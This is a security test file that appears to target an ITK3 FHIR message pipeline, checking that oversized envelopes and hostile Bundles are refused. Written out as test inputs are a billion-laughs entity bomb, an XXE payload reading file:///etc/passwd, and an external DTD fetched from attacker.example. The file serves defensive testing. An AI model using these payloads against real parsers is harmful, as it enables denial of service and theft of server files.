/**
 * Parsers under attack, at pipeline level (SECURITY-CORPUS.md rule 1, A13; ITK3 hardened parsing).
 *
 * Size caps must apply before any parsing: a 1 MiB credential, a 9 MiB + 1 sealed message, a
 * 9 MiB + 1 inner JWS, a Bundle over the 5 MiB ITK3 limit and a 100 MiB + 1 Bundle handed to the
 * parser are each refused with their code, and the refusal is timed (printed, not asserted: CI
 * machines vary). Then hostile Bundles — deep nesting, duplicate JSON members, XML entity expansion,
 * external entities, DOCTYPE, non-UTF-8 — are signed by a registered sender and sealed correctly,
 * so only the content is hostile: the verify stage must refuse them with 10009.
 *
 * Rows go to reports/security/parsers.json (same shape as attacks.json, plus `ms`).
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseSealed } from '../../lib/envelope/jwe.js';
import { parseSigned } from '../../lib/envelope/jws.js';
import type { ItkRouting } from '../../lib/envelope/routing.js';
import { encryptSigned } from '../../lib/envelope/seal.js';
import { verifyCredential } from '../../lib/envelope/token.js';
import { ERROR_CATALOGUE, PipelineError, type RejectionCode } from '../../lib/errors.js';
import { parseBundle } from '../../lib/itk3/index.js';
import type { DemoWorld } from '../../lib/testkit/world.js';
import {
  buildMessage,
  credentialFor,
  makeTempDir,
  recipientOf,
  removeTempDirs,
  signAs,
  testWorld,
} from '../support/world.js';
import { type AttackRow, Harness, publicKeyOf, Results, rawEncrypt, rawSign, rowFrom } from './support.js';

let world: DemoWorld;
let h: Harness;
const results = new Results<AttackRow>('parsers.json', 'test/security/parsers.test.ts');

beforeAll(async () => {
  world = await testWorld();
  h = new Harness(world, makeTempDir('itk3-parsers-'));
});

afterAll(() => {
  results.write({ total: results.rows.length });
  removeTempDirs();
});

/** Time a synchronous or asynchronous refusal; returns the error code and milliseconds. */
async function timed(run: () => unknown): Promise<{ code: string; ms: number }> {
  const started = performance.now();
  try {
    await run();
  } catch (error) {
    const ms = performance.now() - started;
    expect(error).toBeInstanceOf(PipelineError);
    return { code: (error as PipelineError).code, ms };
  }
  throw new Error('expected a refusal');
}

function record(id: string, attack: string, stage: string, code: RejectionCode, ms: number): void {
  results.add({
    id,
    attack,
    stage,
    outcome: 'rejected',
    itk3Code: ERROR_CATALOGUE[code],
    code,
    ms: Math.round(ms * 10) / 10,
  });
  console.log(`${id}: ${attack} → ${code} in ${ms.toFixed(2)} ms`);
}

describe('size caps before parsing', () => {
  it('a 1 MiB credential: TOKEN_TOO_LARGE before any decoding', async () => {
    const kid = world.issuers.federation.key.kid;
    // Not even signed: the cap must not depend on anything in the token.
    const token = rawSign({
      header: { alg: 'PS256', kid, typ: 'JWT' },
      payload: { pad: 'x'.repeat(1024 * 1024) },
      alg: 'none',
    });
    const { code, ms } = await timed(() => verifyCredential(token, world.config, Date.now()));
    expect(code).toBe('TOKEN_TOO_LARGE');
    record('size.token.1mib', '1 MiB credential (verifyCredential)', 'authenticate', 'TOKEN_TOO_LARGE', ms);
    const msg = buildMessage('X26');
    const r = await h.run({ credential: token, sealed: await sealed(msg), via: 'sqs' });
    expect(r.outcome).toMatchObject({
      status: 'rejected',
      stage: 'authenticate',
      code: 'TOKEN_TOO_LARGE',
      itk3Code: '20012',
    });
  });

  it('a 9 MiB + 1 sealed message: MESSAGE_TOO_LARGE before the header is decoded', async () => {
    const limit = world.config.doc.limits.maxSealedBytes;
    const header = Buffer.from(JSON.stringify({ alg: 'RSA-OAEP-256', enc: 'A256GCM' })).toString('base64url');
    const filler = 'A'.repeat(limit + 1 - header.length - '.AAAA.AAAA.'.length - '.AAAA'.length);
    const jwe = `${header}.AAAA.AAAA.${filler}.AAAA`;
    expect(jwe.length).toBe(limit + 1);
    const { code, ms } = await timed(() => parseSealed(jwe, world.config.doc.limits));
    expect(code).toBe('MESSAGE_TOO_LARGE');
    record('size.jwe.9mib+1', '9 MiB + 1 sealed message (parseSealed)', 'authorise', 'MESSAGE_TOO_LARGE', ms);
    const r = await h.run({
      credential: await credentialFor(world, 'X26', h.now()),
      sealed: jwe,
      via: 'sqs',
    });
    expect(r.outcome).toMatchObject({
      status: 'rejected',
      stage: 'authorise',
      code: 'MESSAGE_TOO_LARGE',
      itk3Code: '20015',
    });
    expect(r.unwraps).toBe(0);
  });

  it('a 9 MiB + 1 inner JWS: MESSAGE_TOO_LARGE before it is decoded', async () => {
    const bytes = new Uint8Array(world.config.doc.limits.maxSealedBytes + 1).fill(0x41);
    const { code, ms } = await timed(() => parseSigned(bytes, world.config.doc.limits));
    expect(code).toBe('MESSAGE_TOO_LARGE');
    record('size.jws.9mib+1', '9 MiB + 1 inner JWS (parseSigned)', 'verify', 'MESSAGE_TOO_LARGE', ms);
  });

  it('a Bundle of 5 MiB + 1, validly signed and sealed: 20015 at verify before the Bundle is parsed', async () => {
    const limit = world.config.doc.limits.maxBundleBytes;
    const msg = buildMessage('X26', { targetBytes: limit + 1 });
    // The builder aims within 4 bytes below the target: top it up with trailing whitespace.
    const bytes = Buffer.concat([Buffer.from(msg.bytes), Buffer.alloc(limit + 1 - msg.bytes.length, 0x20)]);
    expect(bytes.length).toBe(limit + 1);
    const s = await sealed({ ...msg, bytes });
    expect(s.length).toBeLessThanOrEqual(world.config.doc.limits.maxSealedBytes);
    const started = performance.now();
    const r = await h.run({ credential: await credentialFor(world, 'X26', h.now()), sealed: s });
    const ms = performance.now() - started;
    expect(r.outcome).toMatchObject({
      status: 'rejected',
      stage: 'verify',
      code: 'MESSAGE_TOO_LARGE',
      itk3Code: '20015',
    });
    results.add({
      ...rowFrom('size.bundle.5mib+1', 'Bundle of 5 MiB + 1, signed and sealed (whole pipeline)', r),
      ms: Math.round(ms),
    });
    console.log(
      `size.bundle.5mib+1: whole pipeline run (decrypt + verify of a 9 MiB JWE) ${ms.toFixed(0)} ms`,
    );
  });

  it('a 100 MiB + 1 Bundle handed to the ITK3 parser: refused on its length alone', async () => {
    const bytes = Buffer.allocUnsafe(100 * 1024 * 1024 + 1);
    const { code, ms } = await timed(() => parseBundle(bytes, 'xml'));
    expect(code).toBe('MESSAGE_TOO_LARGE');
    record(
      'size.bundle.100mib+1',
      '100 MiB + 1 Bundle (parseBundle default cap)',
      'verify',
      'MESSAGE_TOO_LARGE',
      ms,
    );
  });
});

/** Sign `bytes` as X26 with the message's routing and seal it to A83627 (real keys). */
async function sealed(msg: {
  bytes: Uint8Array;
  format: 'xml' | 'json';
  routing: ItkRouting;
}): Promise<string> {
  const jws = await signAs(world, 'X26', msg);
  return encryptSigned({ plaintext: jws, routing: msg.routing, recipient: recipientOf(world, 'A83627') });
}

/** A hostile variant of a valid X26 message, signed and sealed correctly, through the pipeline. */
async function hostileBundle(
  id: string,
  attack: string,
  format: 'xml' | 'json',
  mutate: (text: string) => string | Uint8Array,
  code: RejectionCode = 'BUNDLE_UNREADABLE',
) {
  const msg = buildMessage('X26', { format });
  const text = new TextDecoder().decode(msg.bytes);
  const out = mutate(text);
  const bytes = typeof out === 'string' ? new TextEncoder().encode(out) : out;
  const s = await sealed({ ...msg, bytes });
  const started = performance.now();
  const r = await h.run({ credential: await credentialFor(world, 'X26', h.now()), sealed: s });
  const ms = performance.now() - started;
  results.add({ ...rowFrom(id, attack, r), ms: Math.round(ms * 10) / 10 });
  expect(r.outcome, id).toMatchObject({
    status: 'rejected',
    stage: 'verify',
    code,
    itk3Code: ERROR_CATALOGUE[code],
  });
  expect(r.responseFiles).toHaveLength(1);
  // The whole run, five stages, is bounded: a hostile Bundle must not cost seconds.
  console.log(`${id}: ${attack} → ${r.outcome.code} (pipeline run ${ms.toFixed(1)} ms)`);
  return r;
}

const XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>';
const BUNDLE_OPEN = '<Bundle xmlns="http://hl7.org/fhir">';

describe('hostile Bundles inside validly signed and sealed messages', () => {
  it('XML entity expansion (billion laughs)', async () => {
    const entities = ['<!ENTITY a "aaaaaaaaaa">'];
    for (let i = 1; i < 10; i += 1) {
      const prev = String.fromCharCode(96 + i);
      entities.push(`<!ENTITY ${String.fromCharCode(97 + i)} "${`&${prev};`.repeat(10)}">`);
    }
    await hostileBundle('xml.billion-laughs', 'XML entity expansion (10^9 a)', 'xml', (t) =>
      t
        .replace(XML_DECL, `${XML_DECL}<!DOCTYPE Bundle [${entities.join('')}]>`)
        .replace(BUNDLE_OPEN, `${BUNDLE_OPEN}<div>&j;</div>`),
    );
  });

  it('XML external entity (file:///etc/passwd)', async () => {
    await hostileBundle('xml.xxe', 'XML external entity', 'xml', (t) =>
      t
        .replace(XML_DECL, `${XML_DECL}<!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`)
        .replace(BUNDLE_OPEN, `${BUNDLE_OPEN}<div>&xxe;</div>`),
    );
  });

  it('XML parameter entity and external DTD', async () => {
    await hostileBundle('xml.external-dtd', 'XML external DTD / parameter entity', 'xml', (t) =>
      t.replace(
        XML_DECL,
        `${XML_DECL}<!DOCTYPE Bundle SYSTEM "http://attacker.example/x.dtd" [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>`,
      ),
    );
  });

  it('a bare DOCTYPE', async () => {
    await hostileBundle('xml.doctype', 'XML DOCTYPE (no entities)', 'xml', (t) =>
      t.replace(XML_DECL, `${XML_DECL}<!DOCTYPE Bundle>`),
    );
  });

  it('an undeclared entity reference', async () => {
    await hostileBundle('xml.undeclared-entity', 'XML undeclared entity reference', 'xml', (t) =>
      t.replace(BUNDLE_OPEN, `${BUNDLE_OPEN}<!-- x -->&undeclared;`),
    );
  });

  it('XML nested 10 000 deep', async () => {
    await hostileBundle('xml.deep', 'XML nested 10 000 deep', 'xml', (t) =>
      t.replace(BUNDLE_OPEN, `${BUNDLE_OPEN}${'<extension>'.repeat(10_000)}${'</extension>'.repeat(10_000)}`),
    );
  });

  it('XML declaring another encoding', async () => {
    await hostileBundle('xml.encoding', 'XML declared ISO-8859-1', 'xml', (t) =>
      t.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'),
    );
  });

  it('XML with invalid UTF-8 bytes', async () => {
    await hostileBundle('xml.non-utf8', 'XML with invalid UTF-8 bytes', 'xml', (t) => {
      const bytes = Buffer.from(t, 'utf8');
      const at = bytes.indexOf('<id value="') + 11;
      return Buffer.concat([bytes.subarray(0, at), Buffer.from([0xc3, 0x28, 0xff]), bytes.subarray(at)]);
    });
  });

  it('XML in UTF-16 with a BOM', async () => {
    await hostileBundle('xml.utf16', 'XML encoded as UTF-16LE', 'xml', (t) =>
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(t.replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le'),
      ]),
    );
  });

  it('JSON nested 10 000 deep', async () => {
    await hostileBundle('json.deep', 'JSON nested 10 000 deep', 'json', (t) =>
      t.replace(
        '"resourceType": "Bundle",',
        `"resourceType": "Bundle", "x": ${'['.repeat(10_000)}${']'.repeat(10_000)},`,
      ),
    );
  });

  it('JSON with a duplicate member (two Bundle ids; readers must not disagree)', async () => {
    await hostileBundle('json.duplicate', 'JSON duplicate member name', 'json', (t) =>
      t.replace('"resourceType": "Bundle",', `"resourceType": "Bundle", "id": "${randomUUID()}",`),
    );
  });

  it('JSON with a duplicate escaped member name', async () => {
    await hostileBundle('json.duplicate-escaped', 'JSON duplicate member name, escaped', 'json', (t) =>
      t.replace('"resourceType": "Bundle",', '"resourceType": "Bundle", "\\u0074ype": "collection",'),
    );
  });

  it('JSON with invalid UTF-8 bytes', async () => {
    await hostileBundle('json.non-utf8', 'JSON with invalid UTF-8 bytes', 'json', (t) => {
      const bytes = Buffer.from(t, 'utf8');
      const at = bytes.indexOf('"id": "') + 7;
      return Buffer.concat([bytes.subarray(0, at), Buffer.from([0xed, 0xa0, 0x80]), bytes.subarray(at)]);
    });
  });

  it('an XML Bundle of the wrong type (collection): readable but not ITK3', async () => {
    await hostileBundle(
      'xml.not-message',
      'Bundle.type collection',
      'xml',
      (t) => t.replace('<type value="message"/>', '<type value="collection"/>'),
      'BUNDLE_NOT_ITK3',
    );
  });

  it('a valid Bundle JWE-encrypted with a deep JWE header, for comparison with the cap (10^5 brackets)', async () => {
    const msg = buildMessage('X26');
    const jws = await signAs(world, 'X26', msg);
    const header = JSON.stringify({
      alg: 'RSA-OAEP-256',
      enc: 'A256GCM',
      kid: world.recipients.A83627.key.kid,
      cty: 'JOSE',
      itk: msg.routing,
      x: 0,
    }).replace('"x":0', `"x":${'['.repeat(100_000)}${']'.repeat(100_000)}`);
    const jwe = rawEncrypt({ header, plaintext: jws, publicKey: publicKeyOf(world.recipients.A83627.key) });
    const { code, ms } = await timed(() => parseSealed(jwe, world.config.doc.limits));
    expect(code).toBe('ENVELOPE_MALFORMED');
    record(
      'depth.jwe-header.1e5',
      'JWE header nested 10^5 deep (parseSealed)',
      'authorise',
      'ENVELOPE_MALFORMED',
      ms,
    );
  });
});
